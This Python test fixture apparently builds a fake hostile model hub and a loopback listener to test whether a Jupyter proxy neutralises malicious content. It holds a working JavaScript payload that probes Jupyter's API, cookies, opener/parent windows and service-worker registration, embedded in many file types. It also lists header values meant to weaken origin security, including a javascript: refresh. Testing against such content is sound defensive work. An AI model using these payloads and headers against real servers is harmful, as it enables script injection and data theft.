"""What a hostile repository, upstream and listener look like.

Responsible for: documents of every type a browser might run, whose script calls Jupyter's API and
tells a listener how far it got; an upstream that answers everything as a web page with headers that
would weaken the origin; the listener.
Not responsible for: opening them (`test_hostile_content`).
"""

from __future__ import annotations

import hashlib
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ATTACK = """\
(() => {
  const tell = what => fetch("%(listener)s/%(name)s/" + what, {method: "POST", mode: "no-cors"});
  tell("ran");
  if (!self.document) return;
  document.title = "ran";
  fetch("%(api)s?by=%(name)s").then(answer => tell("api-" + answer.status));
  tell(document.cookie ? "cookie" : "no-cookie");
  if (window.opener) { window.opener.document.title = "ran"; tell("opener"); }
  if (window.parent !== window) { window.parent.document.title = "ran"; tell("parent"); }
  if (navigator.serviceWorker) {
    navigator.serviceWorker.register("script.js").then(() => tell("service-worker"));
  }
})();
"""
"""Each step tells of itself before the next may fail."""

DOCUMENTS = {
    "page.html": "<!doctype html><title>page</title><script>%s</script>",
    "page.htm": "<html><body onload='document.title=\"ran\"'><script>%s</script></body></html>",
    "page.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>page</title>'
    "<script><![CDATA[%s]]></script></head></html>",
    "page.xml": '<root><script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[%s]]></script></root>',
    "transformed.xml": '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="sheet.xsl"?>'
    "<root/>",
    "sheet.xsl": '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    '<xsl:template match="/"><html><script><![CDATA[%s]]></script></html></xsl:template>'
    "</xsl:stylesheet>",
    "image.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[%s]]></script></svg>',
    "script.js": "%s",
    "script.mjs": "%s",
    "archive.mhtml": "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>%s</script>",
    "paper.pdf": "%%PDF-1.4\n<script>%s</script>",
    "notes.txt": "<!doctype html><html><script>%s</script></html>",
    "data.json": "<!doctype html><html><script>%s</script></html>",
    "model.bin": "<!doctype html><html><script>%s</script></html>",
    "NO_SUFFIX": "<!doctype html><html><script>%s</script></html>",
}
"""File name -> document around the script. Names say what a Hub takes the type from."""

TYPES = {
    "html": "text/html; charset=utf-8",
    "htm": "text/html",
    "xhtml": "application/xhtml+xml",
    "xml": "text/xml",
    "xsl": "application/xslt+xml",
    "svg": "image/svg+xml",
    "js": "text/javascript",
    "mjs": "application/javascript",
    "mhtml": "multipart/related",
    "pdf": "application/pdf",
    "txt": "text/plain, text/html",
    "json": "application/json; charset=utf-7",
    "bin": "application/xml",
    "NO_SUFFIX": "application/x-unheard-of+xml",
}
"""What the hostile upstream says its documents are."""

WEAKENING = {
    "Set-Cookie": "username=attacker; Path=/",
    "Service-Worker-Allowed": "/",
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Credentials": "true",
    "Content-Security-Policy": "default-src * 'unsafe-inline' 'unsafe-eval'",
    "Cross-Origin-Resource-Policy": "cross-origin",
    "X-Content-Type-Options": "sniff",
    "X-Frame-Options": "ALLOWALL",
    "Content-Disposition": "inline",
    "Clear-Site-Data": '"cookies"',
    "Strict-Transport-Security": "max-age=1",
    "SourceMap": "/evil.map",
    "Refresh": "0;url=javascript:document.title='ran'",
}
"""What a hostile upstream would like to see passed on."""

COMMIT = "c0ffee" * 6 + "c0ff"


class Attack:
    """Writes documents whose script aims at one server.

    Args:
        listener: origin that scripts report to.
        api: path of the server's own that they try to read.
    """

    def __init__(self, listener: str, api: str) -> None:
        self._listener = listener
        self._api = api

    def script(self, name: str) -> str:
        """The script, which reports as `name`."""
        return ATTACK % {"listener": self._listener, "api": self._api, "name": name}

    def document(self, file: str, name: str) -> bytes:
        """One of `DOCUMENTS` with the script in it."""
        text = DOCUMENTS[file]
        return (text % self.script(name) if "%s" in text else text).encode()


class Listener:
    """Hears from scripts that run. Safe to read from any thread."""

    def __init__(self, url: str) -> None:
        self.url = url
        self._lock = threading.Lock()
        self._heard: list[tuple[str, str]] = []

    def hear(self, name: str, what: str) -> None:
        """Note one report."""
        with self._lock:
            self._heard.append((name, what))

    def of(self, name: str) -> set[str]:
        """How far the script called `name` got."""
        with self._lock:
            return {what for who, what in self._heard if who == name}

    def names(self) -> set[str]:
        """All scripts that ran."""
        with self._lock:
            return {who for who, _ in self._heard}

    def forget(self) -> None:
        """Start again."""
        with self._lock:
            self._heard.clear()


@contextmanager
def listening() -> Iterator[Listener]:
    """A listener on a free loopback port."""

    class Handler(_Quiet):
        def do_POST(self) -> None:
            _, name, what = self.path.split("/")
            listener.hear(name, what)
            self.reply(204, {}, b"")

    with _serving(Handler) as url:
        listener = Listener(url)
        yield listener


@contextmanager
def hostile_hub(attack: Attack) -> Iterator[str]:
    """An upstream that holds models/org/evil and means harm; its origin.

    Below `resolve/main/` lie all `DOCUMENTS` with types a browser runs, and `error-STATUS.html`.
    Every path that is none of a Hub's known ones gets a web page, as a Hub that lies would do it.
    """

    class Handler(_Quiet):
        def do_HEAD(self) -> None:
            self.do_GET()

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.do_GET()

        def do_GET(self) -> None:
            path = self.path.partition("?")[0]
            folder, _, file = path.rpartition("/")
            if path == "/api/models/org/evil":
                info = {"id": "org/evil", "sha": COMMIT, "private": False, "gated": False}
                self.reply(200, {"Content-Type": "application/json"}, json.dumps(info).encode())
            elif file.startswith("error-"):
                self._refuse(int(file[6:9]), f"evil-{file[:9]}")
            elif folder.startswith("/org/evil/resolve/") and file in DOCUMENTS:
                self._send(file)
            else:
                name = "evil-" + path.strip("/").replace("/", ".")
                self._page(200, attack.document("page.html", name))

        def _send(self, file: str) -> None:
            body = attack.document(file, f"evil-{file}")
            digest = hashlib.sha1(f"blob {len(body)}\0".encode() + body).hexdigest()
            kind = TYPES[file.rpartition(".")[2]]
            named = {"X-Repo-Commit": COMMIT, "ETag": f'"{digest}"', "Content-Type": kind}
            self.reply(200, {**WEAKENING, **named}, body)

        def _refuse(self, status: int, name: str) -> None:
            message = f"<script>{attack.script(name)}</script>".replace("\n", " ")
            said = {"X-Error-Message": message, "X-Error-Code": "GatedRepo"}
            self._page(status, attack.document("page.html", name), said)

        def _page(self, status: int, body: bytes, said: dict[str, str] | None = None) -> None:
            page = {"Content-Type": "text/html; charset=utf-8", **(said or {})}
            self.reply(status, {**WEAKENING, **page}, body)

    with _serving(Handler) as url:
        yield url


class _Quiet(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def reply(self, status: int, headers: dict[str, str], body: bytes) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Nothing."""


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128  # browsers open many connections at once

    def handle_error(self, *_: object) -> None:
        """A client that leaves in the middle is no error here."""


@contextmanager
def _serving(handler: type[BaseHTTPRequestHandler]) -> Iterator[str]:
    server = _Server(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
